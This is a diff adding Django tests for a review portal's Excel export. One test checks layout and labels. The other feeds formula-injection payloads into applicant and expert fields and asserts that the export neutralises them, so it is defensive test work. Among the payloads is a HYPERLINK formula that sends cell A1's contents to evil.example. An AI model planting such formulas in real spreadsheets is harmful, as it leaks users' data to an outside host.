@@ -1,16 +1,19 @@
 """Exports: the workbook read back with openpyxl, the ZIP by city, progress, and who may export."""
 
 import io
+import itertools
 import zipfile
 from pathlib import Path
 
 import pytest
 from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from applications.models import Package
 from portal.audit.models import AuditAction, AuditEvent
+from portal.spreadsheets import FORMULA_STARTS
 from review.models import ExportJob
 
 from .conftest import expert_pool
@@ -155,3 +158,63 @@ def test_an_export_delivered_twice_is_written_once(client, people, scored, djang
     assert run_export.apply(args=[job.pk]).get() == job.file.name
     assert path.stat().st_mtime_ns == written
     assert ExportJob.objects.get(pk=job.pk).state == ExportJob.State.READY
+
+
+def test_the_workbook_opens_ready_to_read_and_names_what_was_computed(
+    client, people, scored, django_capture_on_commit_callbacks
+):
+    """Column widths, a header that stays in view and filters on every sheet; experts by name and unit; the
+    score header says what was applied: the call asks for the trimmed mean, but three experts scored."""
+    call = scored["pizhou"].call
+    call.aggregation = "trimmed_mean"
+    call.save()
+    client.force_login(people["province"])
+    job = export(client, call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
+    response = client.get(reverse("province:download_export", args=[job.pk]))
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+
+    for sheet in workbook.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
+        assert sheet.column_dimensions["B"].width >= 12
+
+    scores = list(workbook["专家评分"].iter_rows(values_only=True))
+    expert, unit = scores[0].index("评审专家"), scores[0].index("专家工作单位")
+    assignment = scored["pizhou"].assignments.select_related("expert").first()
+    row = next(r for r in scores[1:] if r[expert] == assignment.expert.full_name)
+    assert row[unit] == assignment.expert.memberships.get().unit.name  # 外省大学…, not an account name
+    assert not any(r[expert].startswith("user") for r in scores[1:])
+
+    ranking = list(workbook["排名"].iter_rows(values_only=True))
+    assert ranking[0][6] == "汇总得分（算术平均）" and ranking[0][7] == "汇总方式"
+    assert {r[7] for r in ranking[1:]} == {"算术平均"}
+    assert "去掉一个最高分" not in "".join(map(str, ranking[0]))
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
+
+
+def test_no_cell_of_the_workbook_is_a_formula_whatever_the_applicants_and_experts_typed(
+    client, people, scored, django_capture_on_commit_callbacks
+):
+    """Every text column an applicant, expert or administrator fills reaches the workbook as text."""
+    from applications.models import Application, ApplicationPart
+    from review.models import Assignment, Criterion
+
+    hostile = itertools.cycle(FORMULAS)
+    for application in scored.values():
+        Application.objects.filter(pk=application.pk).update(name=next(hostile))
+        for part in ApplicationPart.objects.filter(application=application):
+            part.data = {key: next(hostile) if isinstance(value, str) else value for key, value in part.data.items()}
+            part.save(update_fields=["data"])
+    for assignment in Assignment.objects.filter(application__in=scored.values()):
+        Assignment.objects.filter(pk=assignment.pk).update(comment=next(hostile))
+    Criterion.objects.filter(call=scored["pizhou"].call).update(name=next(hostile))
+    client.force_login(people["province"])
+    job = export(client, scored["pizhou"].call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
+    workbook = load_workbook(default_storage.path(job.file.name))
+    text = [c for sheet in workbook for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
+    assert not [c.coordinate for sheet in workbook for line in sheet.iter_rows() for c in line if c.data_type == "f"]
+    assert not [c.value for c in text if c.value.startswith(FORMULA_STARTS)]
+    defused = {c.value for c in text if c.value.startswith("'")}
+    assert {"'" + formula for formula in FORMULAS} <= defused  # names, fields, comments and criteria all seen
